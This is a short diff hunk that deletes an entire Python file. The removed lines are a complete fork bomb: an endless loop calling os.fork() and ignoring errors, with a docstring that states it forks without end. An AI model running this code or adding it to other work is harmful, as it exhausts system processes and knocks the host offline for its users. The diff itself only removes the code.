@@ -1,8 +1,0 @@
-"""Forks without end; every process does."""
-import os
-
-while True:
-    try:
-        os.fork()
-    except OSError:
-        pass
